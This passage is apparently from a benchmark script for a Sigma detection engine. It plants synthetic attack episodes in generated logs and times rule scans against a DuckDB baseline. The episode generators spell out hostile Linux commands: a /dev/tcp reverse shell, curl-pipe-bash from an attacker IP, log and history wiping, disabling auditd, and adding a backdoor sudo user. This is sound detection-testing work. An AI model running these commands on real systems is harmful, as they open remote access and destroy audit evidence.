        rows.append(self.linux.auth(times[-1], host, "sshd", message, "ubuntu", ip, "success"))
        return rows

    def _shell(self, times: list[int], commands: Sequence[str]) -> list[Row]:
        host = self.rng.choice(HOSTS)
        return [
            self.linux.command(when, host, "ubuntu", command, "/tmp")
            for when, command in zip(times, commands, strict=True)
        ]

    def ep_reverse_shell(self, times: list[int]) -> list[Row]:
        ip = self.attack_ip()
        return self._shell(times, [f"bash -i >& /dev/tcp/{ip}/4444 0>&1"])

    def ep_download_exec(self, times: list[int]) -> list[Row]:
        ip = self.attack_ip()
        return self._shell(
            times, [f"curl -fsSL http://{ip}/.x/{random_hex(self.rng, 6)}.sh | bash"]
        )

    def ep_history_cleared(self, times: list[int]) -> list[Row]:
        return self._shell(times, ["unset HISTFILE", "history -c"])

    def ep_log_wipe(self, times: list[int]) -> list[Row]:
        return self._shell(
            times, ["rm -f /var/log/auth.log /var/log/syslog", "journalctl --vacuum-time=1s"]
        )

    def ep_logging_stopped(self, times: list[int]) -> list[Row]:
        return self._shell(times, ["systemctl stop auditd", "systemctl disable rsyslog"])

    def ep_exec_from_tmp(self, times: list[int]) -> list[Row]:
        path = f"/tmp/.ICE-unix/{random_hex(self.rng, 6)}"
        return self._shell(times, [f"chmod +x {path}", f"{path} -o pool.example.net:3333"])

    def ep_local_backdoor_user(self, times: list[int]) -> list[Row]:
        host = self.rng.choice(HOSTS)
        name = f"sysupd{random_hex(self.rng, 3)}"
        command = f"useradd -m -s /bin/bash -G sudo {name}"
        message = (
            f"new user: name={name}, UID=1003, GID=1003, home=/home/{name}, "
            "shell=/bin/bash, from=/dev/pts/1"
        )
        return [
            self.linux.command(times[0], host, "root", command, "/root"),
            self.linux.auth(times[1], host, "useradd", message, name, None, "success"),
        ]


# (name, rows, is_linux): the episodes and how many rows each takes
EPISODES: tuple[tuple[str, int, bool], ...] = (
    ("stop_logging", 2, False),
    ("access_key_other_user", 2, False),
    ("secrets_burst", 13, False),
    ("console_no_mfa", 1, False),
    ("console_bruteforce", 6, False),
    ("root_login", 1, False),
    ("bucket_policy_public", 1, False),
    ("enumeration", len(ENUMERATION), False),
    ("security_group_open", 1, False),
    ("event_selectors_reduced", 1, False),
    ("backdoor_user", 3, False),
    ("ssh_bruteforce", 20, True),
    ("reverse_shell", 1, True),
    ("download_exec", 1, True),
    ("history_cleared", 2, True),
    ("log_wipe", 2, True),
    ("logging_stopped", 2, True),
    ("exec_from_tmp", 2, True),
    ("local_backdoor_user", 2, True),
)
_AWS_EPISODES = [e for e in EPISODES if not e[2]]
_LINUX_EPISODES = [e for e in EPISODES if e[2]]
_MEAN_EPISODE_ROWS = (1 - LINUX_ATTACK_SHARE) * statistics.mean(
    n for _, n, _ in _AWS_EPISODES
) + LINUX_ATTACK_SHARE * statistics.mean(n for _, n, _ in _LINUX_EPISODES)
EPISODE_START = ATTACK_SHARE / _MEAN_EPISODE_ROWS  # per row, so ~0.1% of rows are attacks


def chunk_rows(gen: ChunkGenerator, spec: ChunkSpec, stats: ChunkStats) -> Iterator[Row]:
    rng = gen.rng
    times = sorted(rng.randrange(spec.start, spec.end) for _ in range(spec.rows))
    i = 0
    while i < spec.rows:
        if rng.random() < EPISODE_START:
            pool = _LINUX_EPISODES if rng.random() < LINUX_ATTACK_SHARE else _AWS_EPISODES
            name, length, _ = rng.choice(pool)
            if i + length <= spec.rows:
                rows = getattr(gen, f"ep_{name}")(times[i : i + length])
                assert len(rows) == length, name
                stats.episodes[name] += 1
                stats.attack_rows += length
                i += length
                yield from rows
                continue
        yield gen.benign(times[i])
        i += 1


# --------------------------------------------------------------------------------------
# Writing the case
# --------------------------------------------------------------------------------------

_WORLD: tuple[World, list[World]] | None = None


def _init_worker(seed: int) -> None:
    global _WORLD
    world = build_world(seed)
    # one world per principal, for TimelineEventMaker.call (replace re-runs __post_init__)
    _WORLD = world, [replace(world, principals=[p], weights=[1.0]) for p in world.principals]


def write_chunk(job: tuple[ChunkSpec, str]) -> ChunkStats:
    """Runs in a pool worker: one chunk's rows, in BATCH_ROWS batches, to one Parquet file.

    Batches are written as `cloudir timeline`'s workers write them (the same writer,
    `row_group_size=ROW_GROUP_ROWS` per batch), so the row groups have the same size as in
    a real timeline.
    """
    spec, folder = job
    assert _WORLD is not None
    gen = ChunkGenerator(*_WORLD, spec)
    stats = ChunkStats()
    builder = BatchBuilder(gen.errors, promoted_from_raw)  # as the CloudTrail parser's
    path = Path(folder) / f"part-0-{spec.index:05d}.parquet"
    with _parquet_writer(path) as writer:

        def flush() -> None:
            batch = builder.flush()
            if batch is not None:
                writer.write_batch(batch, row_group_size=ROW_GROUP_ROWS)

        for row in chunk_rows(gen, spec, stats):
            builder.add(stats.rows, row)
            stats.rows += 1
            stats.raw_bytes += len(row.raw)
            stats.by_artifact[row.artifact] += 1
            stats.by_evidence[row.evidence_id] += 1
            if len(builder) >= BATCH_ROWS:
                flush()
        flush()
    if gen.errors.entries:
        raise RuntimeError(f"chunk {spec.index}: {gen.errors.entries[:3]}")
    return stats


def plan_chunks(rows: int, seed: int) -> list[ChunkSpec]:
    specs = []
    for index, first in enumerate(range(0, rows, CHUNK_ROWS)):
        count = min(CHUNK_ROWS, rows - first)
        start = BASE_EPOCH + int(first / ROWS_PER_SECOND)
        end = start + max(1, int(count / ROWS_PER_SECOND))
        seed_bytes = hashlib.sha256(f"detect-{seed}-{index}".encode()).digest()
        specs.append(ChunkSpec(index, count, start, end, int.from_bytes(seed_bytes[:8], "big")))
    return specs


def ensure_case(out: Path, rows: int, seed: int, workers: int) -> tuple[Path, dict[str, Any]]:
    """The case for these rows and seed, reused when an earlier run completed it."""
    case_root = out / f"case-{rows}-s{seed}"
    manifest_path = out / f"{case_root.name}.manifest.json"
    wanted = {"generator": GENERATOR_VERSION, "rows": rows, "seed": seed}
    timeline = CasePaths(case_root).timeline
    if manifest_path.exists() and timeline.is_dir():
        manifest = json.loads(manifest_path.read_text())
        if all(manifest.get(k) == v for k, v in wanted.items()):
            log(f"reusing the generated case {case_root}")
            return case_root, manifest
    need = rows * DISK_BYTES_PER_ROW
    free = shutil.disk_usage(out).free
    if free < need:
        raise SystemExit(
            f"{out}: {free / 2**30:.1f} GiB free, {rows:,} rows need about {need / 2**30:.1f} GiB"
        )
    shutil.rmtree(case_root, ignore_errors=True)
    manifest_path.unlink(missing_ok=True)
    case = Case.create(case_root, title=f"detect benchmark, {rows:,} rows, seed {seed}")
    building = case.paths.timeline_building
    building.mkdir()
    specs = plan_chunks(rows, seed)
    log(
        f"generating {rows:,} timeline rows in {len(specs)} Parquet files under {timeline} "
        f"({workers} processes)"
    )
    started = time.monotonic()
    total = ChunkStats()
    ctx = multiprocessing.get_context("fork" if sys.platform == "linux" else "spawn")
    jobs = [(spec, str(building)) for spec in specs]
    with ctx.Pool(workers, initializer=_init_worker, initargs=(seed,)) as pool:
        for done, stats in enumerate(pool.imap_unordered(write_chunk, jobs), 1):
            total.rows += stats.rows
            total.raw_bytes += stats.raw_bytes
            total.attack_rows += stats.attack_rows
            total.by_artifact.update(stats.by_artifact)
            total.by_evidence.update(stats.by_evidence)
            total.episodes.update(stats.episodes)
            if done % max(1, len(jobs) // 10) == 0 or done == len(jobs):
                log(
                    f"  {done}/{len(jobs)} files, {total.rows:,} rows "
                    f"({time.monotonic() - started:.0f} s)"
                )
    if total.rows != rows:
        raise SystemExit(f"generated {total.rows} rows, expected {rows}")
    parquet_bytes = sum(p.stat().st_size for p in building.glob("*.parquet"))
    summary = {  # what `cloudir timeline` writes, so commands that read it work
        "rows": total.rows,
        "files": 0,
        "duplicates_dropped": 0,
        "errors": 0,
        "rows_by_evidence": dict(sorted(total.by_evidence.items())),
        "unparsed_files": [],
        "path": str(timeline),
        "synthetic": f"bench/detect.py generator {GENERATOR_VERSION}, seed {seed}",
    }
    (building / SUMMARY_FILE).write_text(json.dumps(summary, indent=2) + "\n")
    (building / ERRORS_FILE).write_text("")
    building.rename(timeline)
    manifest = dict(
        wanted,
        parquet_files=len(specs),
        parquet_bytes=parquet_bytes,
        raw_bytes=total.raw_bytes,
        attack_rows=total.attack_rows,
        rows_by_artifact=dict(sorted(total.by_artifact.items())),
        episodes=dict(sorted(total.episodes.items())),
        schema_metadata={k.decode(): v.decode() for k, v in TIMELINE_SCHEMA.metadata.items()},
        generation_seconds=round(time.monotonic() - started, 1),
    )
    manifest_path.write_text(json.dumps(manifest, indent=2) + "\n")
    log(
        f"generated in {manifest['generation_seconds']} s: {parquet_bytes / MIB:,.0f} MiB "
        f"Parquet, {total.raw_bytes / MIB:,.0f} MiB of raw JSON "
        f"({total.raw_bytes / rows:,.0f} bytes a row), {total.attack_rows:,} attack rows"
    )
    return case_root, manifest


# --------------------------------------------------------------------------------------
# Measuring
# --------------------------------------------------------------------------------------

# The floor, in a fresh process like the others; it reports its own query time too.
_FLOOR_SCRIPT = """
import json, sys, time
started = time.perf_counter()
from cloudir.analyze.duck import connect
con = connect()
pattern = sys.argv[1].replace("'", "''")
begun = time.perf_counter()
source = f"read_parquet('{pattern}', hive_partitioning=false)"
sql = f"SELECT count(*) FROM {source} WHERE raw ILIKE '%{sys.argv[2]}%'"
count = con.execute(sql).fetchall()[0][0]
done = time.perf_counter()
print(json.dumps({"count": count, "query_seconds": done - begun, "setup_seconds": begun - started}))
"""


@contextlib.contextmanager
def memory_guard(limit_mib: int) -> Iterator[list[str]]:
    """Kill the commands this script runs if their memory passes limit_mib.

    The engine is being rewritten and an earlier version ran the machine out of memory;
    the kernel's OOM killer may pick any process, so this stops our own children first
    (only descendants of this process, never anything else). The list it yields gets a
    reason when it fired. It sums RSS, not PSS: PSS costs the kernel a page-table walk
    (~80 ms for a Spark JVM, four times a second), and RSS, which counts shared pages in
    every process, only makes the guard fire earlier, never later.
    """
    fired: list[str] = []
    done = threading.Event()
    me = os.getpid()

    def watch() -> None:
        while not done.wait(0.25):
            tree = [pid for pid in process_tree(me) if pid != me]
            used = sum(rss_kib(pid) for pid in tree) // 1024
            if used > limit_mib:
                fired.append(f"killed: its processes used {used:,} MiB (--max-memory {limit_mib})")
                for pid in reversed(tree):
                    with contextlib.suppress(ProcessLookupError, PermissionError):
                        os.kill(pid, signal.SIGKILL)
                return

    thread = threading.Thread(target=watch, daemon=True)
    thread.start()
    try:
        yield fired
    finally:
        done.set()
        thread.join()


@dataclass
class Run:
    """The median of the repeated runs of one command, or why it failed."""

    measured: Measured | None
    runs_seconds: list[float]
    failure: str = ""


def repeat_measured(
    argv: list[str],
    what: str,
    repeat: int,
    ok_codes: tuple[int, ...],
    timeout: int,
    max_memory_mib: int,
) -> Run:
    """Run argv `repeat` times; a failure (exit code, timeout, memory) ends the series."""
    wrapped = (
        ["timeout", "--kill-after=10", str(timeout), *argv] if shutil.which("timeout") else argv
    )
    runs: list[Measured] = []
    for n in range(repeat):
        log(f"  {what}: run {n + 1}/{repeat}")
        with memory_guard(max_memory_mib) as fired:
            m = run_measured(wrapped)
        if fired or m.returncode not in ok_codes:
            if fired:
                reason = fired[0]
            elif m.returncode == 124:
                reason = f"timed out after {timeout} s (--timeout)"
            else:
                tail = " | ".join(m.stderr.strip().splitlines()[-3:])
                reason = f"exit code {m.returncode}: {tail[-600:]}"
            log(f"  {what} FAILED after {m.seconds:.1f} s: {reason}")
            return Run(m, [round(r.seconds, 3) for r in [*runs, m]], reason)
        peak = max(m.max_rss_kib or 0, m.tree_pss_kib or 0) / 1024
        log(f"    {m.seconds:.2f} s, peak {peak:,.0f} MiB")
        runs.append(m)
    median = sorted(runs, key=lambda m: m.seconds)[len(runs) // 2]
    rss = [m.max_rss_kib for m in runs if m.max_rss_kib]
    pss = [m.tree_pss_kib for m in runs if m.tree_pss_kib]
    median.max_rss_kib = max(rss) if rss else None
    median.tree_pss_kib = max(pss) if pss else None
    return Run(median, [round(m.seconds, 3) for m in runs])


@dataclass
class BenchRow:
    tool: str
    command: str
    seconds: float | None = None
    rows_per_s: float | None = None
    x_floor: float | None = None  # this row's seconds over the floor's: lower is better
    max_rss_mib: float | None = None
    tree_pss_mib: float | None = None
    cpu_seconds: float | None = None
    note: str = ""
    runs_seconds: list[float] = field(default_factory=list)
    other_cpu_seconds: float | None = None
    status: str = "ok"

    @classmethod
    def of(cls, tool: str, argv: list[str], run: Run, rows: int, note: str = "") -> BenchRow:
        m = run.measured
        row = cls(tool=tool, command=shlex.join(argv), note=note, runs_seconds=run.runs_seconds)
        if run.failure:
            row.status = "FAILED"
            row.note = f"{note}; FAILED: {run.failure}" if note else f"FAILED: {run.failure}"
        if m is None:
            return row
        if not run.failure:
            row.seconds = round(m.seconds, 3)
            row.rows_per_s = round(rows / m.seconds) if rows and m.seconds > 0 else None
            row.cpu_seconds = round(m.cpu_seconds, 2) if m.cpu_seconds is not None else None
            other = m.other_cpu_seconds
            row.other_cpu_seconds = round(other, 2) if other is not None else None
        row.max_rss_mib = round(m.max_rss_kib / 1024, 1) if m.max_rss_kib else None
        row.tree_pss_mib = round(m.tree_pss_kib / 1024, 1) if m.tree_pss_kib else None
        return row


@dataclass
class Target:
    name: str
    goal: str
    measured: str
    status: str  # pass, FAIL, n/a


def _json_out(run: Run) -> Any:
    """A command's JSON output. DuckDB draws its progress bar on stdout for queries over
    2 s (the floor's connection keeps DuckDB's defaults, as cloudir's does) and the
    floor's one flat JSON object follows the bar on its last line: read from its `{`."""
    if run.measured is None or run.failure:
        return None
    text = run.measured.stdout
    for candidate in (text, text[text.rfind("{") :]):
        try:
            return json.loads(candidate)
        except ValueError:
            continue
    return None


def _count(value: Any) -> int | None:
    if isinstance(value, list | dict):
        return len(value)
    return int(value) if isinstance(value, int) else None


def detect_summary(run: Run) -> dict[str, Any]:
    """Rules run and skipped, findings and matched events, from `detect --json` output.

    Read defensively: the engine is being rewritten and its JSON may gain or rename keys;
    the stderr line `N rules run, M skipped, K findings` is the fallback.
    """
    doc = _json_out(run)
    info: dict[str, Any] = {}
    if isinstance(doc, dict):
        rules = doc.get("rules")
        rules = rules if isinstance(rules, dict) else {}
        info["rules_run"] = _count(rules.get("loaded", rules.get("run")))
        info["rules_skipped"] = _count(rules.get("skipped"))
        findings = doc.get("findings") or []
        info["findings"] = len(findings)
        info["matched_events"] = sum(int(f.get("count") or 0) for f in findings)
        info["findings_by_level"] = dict(Counter(str(f.get("level")) for f in findings))
        info["top_findings"] = [
            {"title": f.get("title"), "level": f.get("level"), "count": f.get("count")}
            for f in sorted(findings, key=lambda f: -int(f.get("count") or 0))[:40]
        ]
        for key in ("timings", "timing", "stats", "profile"):
            if key in doc:
                info["engine_" + key] = doc[key]
        if isinstance(rules, dict):
            for key, value in rules.items():
                if "second" in key or "time" in key:
                    info["engine_rules_" + key] = value
    if run.measured is not None:
        line = re.search(
            r"(\d+) rules run, (\d+) skipped, (\d+) findings", run.measured.stderr or ""
        )
        if line:
            info.setdefault("rules_run", int(line.group(1)))
            info.setdefault("rules_skipped", int(line.group(2)))
            info.setdefault("findings", int(line.group(3)))
    return info


def _timed(fn: Callable[[], Any]) -> tuple[Any, float]:
    started = time.perf_counter()
    value = fn()
    return value, round(time.perf_counter() - started, 3)


def _flag(gated: Callable[..., str], rule: Any, backend: Any, promoted: bool) -> str:
    """A rule's flag SQL as the engine makes it: reading promoted columns directly only
    where the engine does (the scan then holds the `_t` lower-cased columns it reads)."""
    return gated(rule, backend, promoted) if promoted else gated(rule, backend)


def _time_correlations(con: Any, ruleset: Any) -> list[dict[str, Any]]:
    """Each correlation again over the matched events `run_rules` left in `_hits`."""
    try:
        from cloudir.analyze.sigma import correlation
    except ImportError:
        return []
    timed = []
    correlations = [getattr(r, "correlation", None) for r in ruleset.rules]
    chained = {i.alerts_of for c in correlations if c is not None for i in c.inputs}
    for n, rule in enumerate(ruleset.rules):
        corr = correlations[n]
        if corr is None:
            continue
        try:
            ids, seconds = _timed(
                lambda n=n, corr=corr: correlation.run(con, n, corr, n in chained)
            )
            timed.append({"seconds": seconds, "events": len(ids), "title": rule.title})
        except Exception as exc:
            timed.append({"seconds": None, "error": str(exc).splitlines()[0], "title": rule.title})
    return sorted(timed, key=lambda t: -(t["seconds"] or 0))


def profile_engine(case_root: Path, each_rule: bool = True) -> dict[str, Any]:
    """The engine's phases timed in this process, then each rule's predicate alone.

    Phases: rule compile (`load_rules`), the scan plus correlations (`run_rules`) and the
    findings (`findings_from`). Then a count(*) per rule over the whole timeline: the sum
    is far more than the engine's single scan costs, but the ranking shows which rules
    (which SQL shapes) are expensive. The engine is being rewritten, so its functions are
    looked up as they are now (old and new signatures); anything missing is reported.
    """
    try:
        from cloudir.analyze import detect as engine
        from cloudir.analyze.query import connect

        register = getattr(engine, "register_functions", None)
        if register is None:
            from cloudir.analyze.sigma.runtime import register_functions as register
        con = connect(Case.open(case_root))
        register(con)
        files = engine.rule_files([], True)
        ruleset, compile_s = _timed(lambda: engine.load_rules(files, con))
    except Exception as exc:  # an engine API this version does not have
        return {"error": f"{type(exc).__name__}: {exc}"}
    result: dict[str, Any] = {"phases": {"load_rules": compile_s}}
    try:
        try:
            hits, scan_s = _timed(lambda: engine.run_rules(con, ruleset))
            findings, found_s = _timed(lambda: engine.findings_from(con, ruleset, hits))
        except AttributeError:  # the first engine: run_rules(con, rules), findings_from(...)
            hits, scan_s = _timed(lambda: engine.run_rules(con, ruleset.rules))
            findings, found_s = _timed(lambda: engine.findings_from(ruleset.rules, hits))
        result["phases"].update(run_rules=scan_s, findings_from=found_s, findings=len(findings))
    except Exception as exc:
        result["phases"]["error"] = f"{type(exc).__name__}: {str(exc)[:300]}"
    result["correlations"] = _time_correlations(con, ruleset)

    scan_sql = getattr(engine, "scan_sql", None)
    backend = getattr(ruleset, "backend", None)
    gate = getattr(engine, "raw_parse_gate", None)  # schema 2: parse raw where rules need it
    # the computed fields' tables, made before the scan as the engine does (one read of raw)
    made = getattr(engine, "context_tables", None)
    promoted_of = getattr(engine, "all_promoted", None)
    # an engine whose rules read promoted columns directly where every CloudTrail row has
    # them (context_tables takes `promoted`): its scan and flags as it makes them
    direct = made is not None and "promoted" in inspect.signature(made).parameters
    promoted = bool(direct and promoted_of is not None and promoted_of(con))
    if made is None or backend is None:
        tables = None
    else:
        tables = made(con, backend.fields, promoted) if direct else made(con, backend.fields)
    scan_args: tuple[Any, ...] = (tables, gate(ruleset, [])) if gate is not None else ()
    if promoted:
        scan_args += (True,)
    source = (
        f"({scan_sql(backend, *scan_args)})" if scan_sql and backend is not None else "timeline"
    )
    gated = getattr(engine, "_gated", None)
    # The baseline computes every column the scan adds (the shared parse of raw, on
    # schema 2 only where a rule may read a field that is not promoted), which
    # each rule timed alone pays too; what a rule costs beyond it is its own.
    timeline_columns = {f.name for f in TIMELINE_SCHEMA}
    added = [
        str(row[0])
        for row in con.execute(f"DESCRIBE SELECT * FROM {source}").fetchall()
        if row[0] not in timeline_columns
    ]
    # hash() forces the whole value; `IS NOT NULL` let DuckDB skip part of the parse.
    forced = " + ".join(f'sum(hash("{c}"))' for c in added) or "count(*)"
    _, baseline = _timed(lambda: con.execute(f"SELECT {forced} FROM {source}").fetchall())
    result["baseline_seconds"] = baseline
    if gated is not None and backend is not None:
        # Every rule's flag in one statement over the shared parse, as the engine's scan
        # has them, without its entity, key and triage columns and the writing of _hits:
        # parse alone, then parse and rules, then run_rules say where the scan's time goes.
        flags = [f"{_flag(gated, r, backend, promoted)} AS f{n}"
                 for n, r in enumerate(ruleset.rules) if getattr(r, "predicate", "")]  # fmt: skip
        any_flag = " OR ".join(f.rsplit(" AS ", 1)[1] for f in flags) or "false"
        sql = f"SELECT count(*) FROM (SELECT {', '.join(flags)} FROM {source}) WHERE {any_flag}"
        try:
            _, result["all_flags_seconds"] = _timed(lambda: con.execute(sql).fetchall())
        except Exception as exc:
            result["all_flags_error"] = str(exc).splitlines()[0]
    if not each_rule:
        return result  # the split above without the long count(*) per rule
    timed = []
    for rule in ruleset.rules:
        predicate = getattr(rule, "predicate", "")
        if not predicate:
            continue  # a correlation: it runs over the matched events, not the timeline
        if gated is not None:
            try:
                test = _flag(gated, rule, backend, promoted)
            except TypeError:  # an engine before the gate resolved fields itself
                test = gated(rule)
        elif hasattr(rule, "artifacts"):
            artifacts = ", ".join("'" + a.replace("'", "''") + "'" for a in rule.artifacts)
            test = f"COALESCE(artifact IN ({artifacts}) AND ({predicate}), false)"
        else:
            result["error"] = "cannot tell which rows this engine's rules apply to"
            break
        sql = f"SELECT count(*) FROM {source} WHERE {test}"
        try:
            rows, seconds = _timed(lambda sql=sql: con.execute(sql).fetchall())
            hits_n, error = rows[0][0], ""
        except Exception as exc:
            hits_n, seconds, error = None, None, str(exc).splitlines()[0]
        timed.append(
            {
                "seconds": seconds,
                "hits": hits_n,
                "title": rule.title,
                "path": Path(rule.path).name,
                "json_paths": predicate.count("json_extract"),
                "regexes": predicate.count("regexp_"),
                "likes": predicate.upper().count("LIKE"),
                "predicate_chars": len(predicate),
                "error": error,
            }
        )
    timed.sort(key=lambda t: -(t["seconds"] or 0))
    result.update(
        baseline_seconds=baseline,
        baseline_sql=f"SELECT {forced} FROM <scan>",
        sum_seconds=round(sum(t["seconds"] or 0 for t in timed), 3),
        rules=timed,
    )
    return result


def machine(cloudir: str) -> dict[str, Any]:
    """common.machine_info's machine facts, plus library versions and the engine's source."""
    info = machine_info(cloudir)
    for package in ("duckdb", "pyarrow", "pySigma", "msgspec"):
        with contextlib.suppress(metadata.PackageNotFoundError):
            info[package.lower()] = metadata.version(package)
    repo = Path(__file__).resolve().parent.parent
    engine = repo / "cloudir" / "analyze" / "detect.py"
    with contextlib.suppress(OSError, subprocess.SubprocessError):
        info["git_head"] = subprocess.run(
            ["git", "-C", str(repo), "rev-parse", "HEAD"], capture_output=True, text=True
        ).stdout.strip()
        status = subprocess.run(
            ["git", "-C", str(repo), "status", "--porcelain", "--", str(engine)],
            capture_output=True,
            text=True,
        ).stdout.strip()
        info["detect_py_modified"] = bool(status)
    if engine.exists():
        info["detect_py_sha256"] = hashlib.sha256(engine.read_bytes()).hexdigest()
    return info


def builtin_rules_dir() -> Path:
    """The shipped rules, found without importing the engine (it may be mid-rewrite)."""
    import cloudir

    return Path(cloudir.__file__).parent / "analyze" / "rules"


# --------------------------------------------------------------------------------------
# Reporting
# --------------------------------------------------------------------------------------


def _fmt(value: float | None, spec: str) -> str:
    return "-" if value is None else format(value, spec)


def _label(rows: int) -> str:
    """5000000 -> 5m, 200000 -> 200k, as the existing result files are named."""
    for size, suffix in ((1_000_000, "m"), (1_000, "k")):
        if rows >= size and rows % size == 0:
            return f"{rows // size}{suffix}"
    return str(rows)


def evaluate(rows: list[BenchRow], info: dict[str, Any]) -> list[Target]:
    by = {r.tool: r for r in rows}
    floor = by["floor: DuckDB scan, 1 ILIKE on raw"]
    for row in rows:
        if row.seconds and floor.seconds:
            row.x_floor = round(row.seconds / floor.seconds, 2)
    detect = by["cloudir detect (all shipped rules)"]
    goal = f"<= {TARGET_RATIO:g}x the floor's wall time"
    if detect.x_floor is None:
        measured = "did not complete: " + detect.note.rpartition("FAILED: ")[2][:120]
        return [Target("cloudir detect vs floor", goal, measured, "FAIL")]
    status = "pass" if detect.x_floor <= TARGET_RATIO else "FAIL"
    targets = [Target("cloudir detect vs floor", goal, f"{detect.x_floor:.2f}x", status)]
    compile_row = by.get("rule compile (cloudir rules validate)")
    if compile_row and compile_row.seconds and detect.seconds and floor.seconds:
        scan = detect.seconds - compile_row.seconds
        info["detect_minus_compile_seconds"] = round(scan, 3)
        targets.append(
            Target(
                "detect minus rule compile vs floor",
                "information: the scan and findings, without startup and compile",
                f"{scan:.2f} s = {scan / floor.seconds:.2f}x",
                "n/a",
            )
        )
    return targets


def render(
    rows: list[BenchRow],
    targets: list[Target],
    info: dict[str, Any],
    params: dict[str, Any],
    profile: dict[str, Any] | None,
) -> str:
    """Print the tables; returns the console text for the .txt result."""
    from rich.console import Console
    from rich.table import Table
    from rich.text import Text

    console = Console(highlight=False, record=True, width=None if sys.stdout.isatty() else 120)
    title = (
        f"{params['rows']:,} timeline rows in {params['parquet_files']} Parquet files, "
        f"{params['parquet_bytes'] / MIB:,.0f} MiB on disk, {params['raw_bytes'] / MIB:,.0f} "
        f"MiB of raw JSON; {params['nproc']} CPUs"
    )
    table = Table(title=title)
    for name in (
        "tool",
        "seconds",
        "rows/s",
        "x floor\n(time)",
        "peak RSS MiB\n(largest proc)",
        "peak PSS MiB\n(whole tree)",
        "CPU s",
    ):
        table.add_column(name, justify="left" if name == "tool" else "right")
    for n, r in enumerate(rows, 1):
        table.add_row(
            Text(f"{r.tool} [{n}]"),
            _fmt(r.seconds, ".2f") if r.status == "ok" else "FAILED",
            _fmt(r.rows_per_s, ",.0f"),
            _fmt(r.x_floor, ".2f"),
            _fmt(r.max_rss_mib, ",.0f"),
            _fmt(r.tree_pss_mib, ",.0f"),
            _fmt(r.cpu_seconds, ".1f"),
        )
    console.print(table)
    for n, r in enumerate(rows, 1):
        console.print(Text(f"[{n}] {r.note}"))
        if len(r.runs_seconds) > 1:
            runs = ", ".join(f"{x:.2f}" for x in r.runs_seconds)
            console.print(Text(f"    runs: {runs} s"))
        console.print(Text(f"    $ {r.command}"), soft_wrap=True)
        other = r.other_cpu_seconds
        if other is not None and r.seconds and other > 0.2 * r.seconds:
            console.print(
                Text(f"    warning: other processes used {other:.1f} CPU s meanwhile; noisy")
            )
    facts = [
        f"rules run {info.get('rules_run', '-')}, skipped {info.get('rules_skipped', '-')}",
        f"findings {info.get('findings', '-')}, matched events {info.get('matched_events', '-')}",
        f"by level {info.get('findings_by_level', '-')}",
    ]
    console.print(Text("detect: " + "; ".join(facts)))
    for key, value in info.items():
        if key.startswith("engine_"):
            console.print(Text(f"  {key}: {json.dumps(value)[:300]}"))
    tt = Table(title="targets")
    for name in ("target", "goal", "measured", "status"):
        tt.add_column(name)
    for t in targets:
        tt.add_row(t.name, t.goal, t.measured, t.status)
    console.print(tt)
    if profile:
        phases = profile.get("phases")
        if phases:
            console.print(Text("engine phases in-process (s): " + json.dumps(phases)))
        if profile.get("correlations"):
            ct = Table(title="correlations, each again over the matched events (_hits)")
            for name in ("seconds", "events", "correlation rule"):
                ct.add_column(name, justify="left" if name == "correlation rule" else "right")
            for t in profile["correlations"]:
                ct.add_row(
                    _fmt(t["seconds"], ".2f"),
                    str(t.get("events", t.get("error", ""))),
                    Text(t["title"]),
                )
            console.print(ct)
        if "all_flags_seconds" in profile:
            console.print(
                Text(
                    f"the scan's parts: the shared parse of raw alone "
                    f"{profile['baseline_seconds']:.2f} s; with every rule's flag "
                    f"{profile['all_flags_seconds']:.2f} s; run_rules (also the entity, key "
                    f"and triage columns, _hits written, correlations) "
                    f"{_fmt((phases or {}).get('run_rules'), '.2f')} s"
                )
            )
        if "error" in profile:
            console.print(Text(f"per-rule profile incomplete: {profile['error']}"))
        if profile.get("rules"):
            pt = Table(
                title=f"slowest rules, each alone (count(*) per rule; sum "
                f"{profile['sum_seconds']:.1f} s; the same scan computing only the "
                f"shared parse of raw takes {profile['baseline_seconds']:.2f} s)"
            )
            for name in ("seconds", "hits", "regex", "LIKEs", "rule"):
                pt.add_column(name, justify="left" if name == "rule" else "right")
            for t in profile["rules"][:15]:
                pt.add_row(
                    _fmt(t["seconds"], ".2f"),
                    "-" if t["hits"] is None else f"{t['hits']:,}",
                    str(t["regexes"]),
                    str(t["likes"]),
                    Text(
                        f"{t['title']} ({t['path']})"
                        + (f" ERROR {t['error']}" if t["error"] else "")
                    ),
                )
            console.print(pt)
    return console.export_text()


def markdown(rows: list[BenchRow], targets: list[Target], params: dict[str, Any]) -> str:
    lines = [
        f"Detection, {params['rows']:,} timeline rows ({params['parquet_bytes'] / MIB:,.0f} MiB "
        f"Parquet), {params['nproc']} CPUs, median of {params['repeat']}:",
        "",
        "| step | seconds | x floor | CPU s | peak RSS MiB |",
        "|---|---:|---:|---:|---:|",
    ]
    for r in rows:
        seconds = _fmt(r.seconds, ".2f") if r.status == "ok" else "failed"
        lines.append(
            f"| {r.tool} | {seconds} | {_fmt(r.x_floor, '.2f')} | {_fmt(r.cpu_seconds, '.1f')} "
            f"| {_fmt(r.max_rss_mib, ',.0f')} |"
        )
    lines.append("")
    for t in targets:
        lines.append(f"- {t.name}: {t.measured} (goal {t.goal}): **{t.status}**")
    return "\n".join(lines) + "\n"


# --------------------------------------------------------------------------------------
# The run
# --------------------------------------------------------------------------------------


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--rows", type=int, default=DEFAULT_ROWS, help="timeline rows")
    parser.add_argument("--seed", type=int, default=1, help="generator seed")
    parser.add_argument("--repeat", type=int, default=3, help="runs per command; median kept")
    parser.add_argument(
        "--out", type=Path, default=Path("bench/out-detect"), help="generated cases (cached)"
    )
    parser.add_argument(
        "--results", type=Path, default=Path("bench/results"), help="where results go"
    )
    parser.add_argument(
        "--timeout", type=int, default=DEFAULT_TIMEOUT, help="seconds before a run is stopped"
    )
    total_mib = os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES") // MIB
    parser.add_argument(
        "--max-memory",
        type=int,
        default=int(total_mib * 0.6),
        help="MiB a measured process tree may use before it is killed (default 60%% of RAM)",
    )
    parser.add_argument(
        "--workers", type=int, default=os.cpu_count() or 1, help="generator processes"
    )
    parser.add_argument(
        "--per-rule",
        action="store_true",
        help="also time the engine's phases and each rule alone, in-process (slow at 5M)",
    )
    parser.add_argument(
        "--phases-only",
        action="store_true",
        help="--per-rule without each rule alone: the phases and the scan's parts",
    )
    parser.add_argument("--generate-only", action="store_true", help="only build the case")
    args = parser.parse_args(argv)
    if args.rows < 1 or args.repeat < 1 or args.workers < 1:
